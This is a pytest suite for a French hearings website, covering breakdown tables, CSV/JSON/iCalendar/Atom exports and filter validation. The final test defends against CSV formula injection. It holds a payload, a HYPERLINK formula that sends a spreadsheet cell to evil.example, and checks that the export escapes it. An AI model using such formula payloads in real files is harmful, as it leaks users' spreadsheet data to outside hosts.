import csv
import io
import json
import xml.etree.ElementTree as ET

import icalendar

from hearings.demo import create_hearing
from hearings.models import HearingPage
from hearings.queries import breakdown, hearings_under
from tests.hearings.conftest import at


def table(tables, name):
    return next(t for t in tables if t["name"] == name)


def row(breakdown_table, slug):
    return next(r for r in breakdown_table["rows"] if r["term"].slug == slug)


def test_a_hearing_counts_once_in_each_category_of_its_organisms(hearings, hearing_index, organisms):
    create_hearing(
        hearing_index, "Audition annulée", at(15), [organisms["authors"]], status=HearingPage.Status.CANCELLED
    )
    tables = breakdown(hearings_under(hearing_index))
    sectors = table(tables, "secteur")
    # The joint hearing touches music through both organisms: it counts once there.
    assert (row(sectors, "musique")["held"], row(sectors, "musique")["planned"]) == (2, 0)
    assert (row(sectors, "audiovisuel")["held"], row(sectors, "audiovisuel")["total"]) == (2, 2)
    # The declined invitation and the cancelled hearing are not counted.
    assert (row(sectors, "livre")["held"], row(sectors, "livre")["planned"]) == (0, 1)
    natures = table(tables, "nature")
    assert row(natures, "societe-de-gestion-collective")["total"] == 1
    assert row(natures, "entreprise")["total"] == 2
    assert row(natures, "association")["total"] == 0
    # The totals count each hearing once: rows may add up to more.
    assert sectors["totals"] == {"held": 2, "planned": 1, "total": 3}
    assert sum(r["total"] for r in sectors["rows"]) == 5  # music 2 + audiovisual 2 + books 1


def test_breakdown_page_has_tables_charts_and_explained_totals(client, hearings):
    response = client.get("/auditions/repartition/")
    assert response.status_code == 200
    html = response.content.decode()
    assert html.count("<table") == 3 and html.count("<caption>") == 3
    assert html.count("<svg") >= 3
    assert '<th scope="col" class="fr-cell--right">Réalisées</th>' in html
    assert "Total, chaque audition comptée une fois" in html
    assert "3 auditions réalisées ou prévues : 2 réalisées et 1 prévue" in html
    assert (
        "La mission a auditionné 2 organismes, entreprises ou personnalités" in html
    )  # distinct organisms in held hearings
    assert 'aria-current="page">Répartition des auditions</a>' in html
    assert 'href="/auditions/"' in html[html.index("fr-breadcrumb") :]


def test_csv_export_has_a_bom_and_honours_the_filters(client, hearings):
    response = client.get("/auditions/export.csv?secteur=musique")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = response.content.decode("utf-8")
    assert content.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(content.lstrip("\ufeff"))))
    assert [r["titre"] for r in rows] == ["Entretien avec le label", "Table ronde musique"]
    joint = rows[1]
    assert joint["organismes"] == "Société des auteurs test (SAT) ; Label indépendant test"
    assert joint["secteurs"] == "Musique ; Audiovisuel"
    assert joint["statut"] == "realisee" and joint["comptee"] == "oui"
    assert joint["url"] == "http://testserver/auditions/" + hearings["joint"].slug + "/" or joint[
        "url"
    ].endswith(f"/auditions/{hearings['joint'].slug}/")


def test_json_export_lists_every_published_hearing(client, hearings):
    hearings["planned"].unpublish()
    data = json.loads(client.get("/auditions/export.json").content)
    assert data["count"] == 3
    declined = next(item for item in data["auditions"] if item["statut"] == "declinee")
    assert declined["comptee"] is False
    assert declined["natures"] == ["Administration et établissement public"]


def test_exports_refuse_bad_filters_with_400(client, hearings):
    response = client.get("/auditions/export.csv?mois=2012-13")
    assert response.status_code == 400
    assert "Le mois « 2012-13 » n’est pas valide" in response.content.decode()
    assert client.get("/auditions/export.json?secteur=abc").status_code == 400
    assert client.get("/auditions/calendar.ics?type=x").status_code == 400


def test_feed_lists_hearings_put_online(client, hearings):
    response = client.get("/auditions/feed/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    root = ET.fromstring(response.content)  # noqa: S314 (our own feed)
    ns = {"atom": "http://www.w3.org/2005/Atom"}
    entries = root.findall("atom:entry", ns)
    assert len(entries) == 4
    titles = {entry.find("atom:title", ns).text for entry in entries}
    assert "Table ronde musique" in titles
    links = {entry.find("atom:link", ns).get("href") for entry in entries}
    assert any(link.endswith(f"/auditions/{hearings['joint'].slug}/") for link in links)


def test_calendar_is_valid_icalendar_without_declined_invitations(client, hearings):
    response = client.get("/auditions/calendar.ics")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/calendar")
    calendar = icalendar.Calendar.from_ical(response.content)
    events = calendar.walk("VEVENT")
    assert {str(event["SUMMARY"]) for event in events} == {
        "Table ronde musique",
        "Audition de la bibliothèque",
        "Entretien avec le label",
    }
    joint = next(event for event in events if str(event["SUMMARY"]) == "Table ronde musique")
    assert joint.decoded("DTSTART") == hearings["joint"].hearing_date
    assert str(joint["STATUS"]) == "CONFIRMED"
    assert str(joint["UID"]).startswith(f"audition-{hearings['joint'].pk}@")
    filtered = icalendar.Calendar.from_ical(client.get("/auditions/calendar.ics?statut=prevue").content)
    assert [str(event["SUMMARY"]) for event in filtered.walk("VEVENT")] == ["Audition de la bibliothèque"]


def test_csv_export_cells_cannot_run_as_formulas(client, hearings):
    """Issue 18, failure 4: an imported title such as =HYPERLINK(...) came out raw."""
    title = '=HYPERLINK("https://evil.example/?leak="&B2,"Cliquez")'
    joint = hearings["joint"]
    joint.title = title
    joint.save_revision().publish()
    content = client.get("/auditions/export.csv").content.decode("utf-8-sig")
    titles = [r["titre"] for r in csv.DictReader(io.StringIO(content))]
    assert "'" + title in titles and title not in titles
